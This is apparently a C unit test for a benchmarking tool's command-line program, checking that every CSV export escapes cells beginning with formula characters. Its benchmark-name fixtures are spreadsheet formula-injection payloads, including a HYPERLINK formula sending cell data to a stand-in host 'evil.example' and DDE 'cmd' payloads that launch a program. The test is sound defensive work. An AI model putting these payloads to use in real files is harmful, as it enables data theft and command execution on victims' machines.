/* test_cli_csv.c - CSV written from a stranger's file cannot run in a
 * spreadsheet: every CSV output (show, run's export, compare of two and of
 * more files, gate) writes a text cell that starts as a formula (= + - @,
 * tab, CR) with a leading apostrophe inside quotes, and leaves numbers
 * such as -1.5 and ordinary names as they were. */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tach/tach.h"
#include "run.h"

#define ARGV(...) ((const char *const[]){__VA_ARGS__, NULL})

static const char *const names[] = {
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"-1.5",
	"BM_plain",
};
#define N_NAMES (sizeof names / sizeof *names)

/* Results with a benchmark per name, time about `scale` seconds. */
static const char *results(double scale)
{
	tach_result *r = tach_result_new();
	for (size_t k = 0; k < N_NAMES; k++) {
		tach_metric *m = tach_benchmark_add_metric(tach_result_add_benchmark(r, names[k]),
		                                           "time", "s", TACH_LOWER_IS_BETTER);
		for (int i = 0; i < 8; i++)
			tach_metric_add_sample(m, scale * (1 + 0.01 * i));
	}
	const char *p = write_result(r, NULL);
	tach_result_free(r);
	return p;
}

/* The fields of CSV text (RFC 4180), each handed to check(); how many. */
static size_t fields(const char *csv, void (*check)(const char *field, const char *all))
{
	size_t n = 0;
	char field[4096];
	for (const char *p = csv; *p;) {
		size_t len = 0;
		if (*p == '"') {
			for (p++; *p && !(*p == '"' && p[1] != '"'); p++) {
				if (*p == '"')
					p++;
				if (len + 1 < sizeof field)
					field[len++] = *p;
			}
			if (*p == '"')
				p++;
		} else {
			for (; *p && *p != ',' && *p != '\n' && *p != '\r'; p++)
				if (len + 1 < sizeof field)
					field[len++] = *p;
		}
		field[len] = 0;
		check(field, csv);
		n++;
		if (*p == '\r')
			p++;
		if (*p == ',' || *p == '\n')
			p++;
	}
	return n;
}

static int is_number(const char *s)
{
	char *end;
	strtod(s, &end);
	return end != s && !*end;
}

static void no_formula(const char *field, const char *all)
{
	cr_expect(!strchr("=+-@\t\r", field[0]) || !field[0] || is_number(field),
	          "a cell a spreadsheet would run: [%s] in\n%s", field, all);
}

static void expect_safe(const char *what, const run_result *r)
{
	cr_expect(r->status == 0 || r->status == 1, "%s: %s", what, r->err);
	cr_expect_gt(fields(r->out, no_formula), 10, "%s: %s", what, r->out);
	/* the names are there, made text, and the number as it was */
	cr_expect(strstr(r->out, "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"), "%s: %s", what,
	          r->out);
	cr_expect(strstr(r->out, "\"'+1+cmd|' /C calc'!A0\""), "%s: %s", what, r->out);
	cr_expect(strstr(r->out, "\"'\t=1+1\""), "%s: %s", what, r->out);
	cr_expect(strstr(r->out, "\n-1.5,") || strstr(r->out, ",-1.5,"), "%s: %s", what, r->out);
	cr_expect(strstr(r->out, "BM_plain"), "%s: %s", what, r->out);
}

Test(cli_csv, no_cell_runs_as_a_formula)
{
	const char *a = results(1e-3), *b = results(1.2e-3), *c = results(0.9e-3);
	run_result r = run_tach(ARGV("show", "-f", "csv", a), NULL, NULL, NULL);
	expect_safe("show", &r);
	run_free(&r);
	r = run_tach(ARGV("compare", "--no-config", "-f", "csv", a, b), NULL, NULL, NULL);
	expect_safe("compare", &r);
	run_free(&r);
	r = run_tach(ARGV("compare", "--no-config", "-f", "csv", a, b, c), NULL, NULL, NULL);
	expect_safe("compare of three", &r);
	run_free(&r);
	r = run_tach(ARGV("gate", "--no-config", "-f", "csv", a, b), NULL, NULL, NULL);
	expect_safe("gate", &r);
	run_free(&r);
}
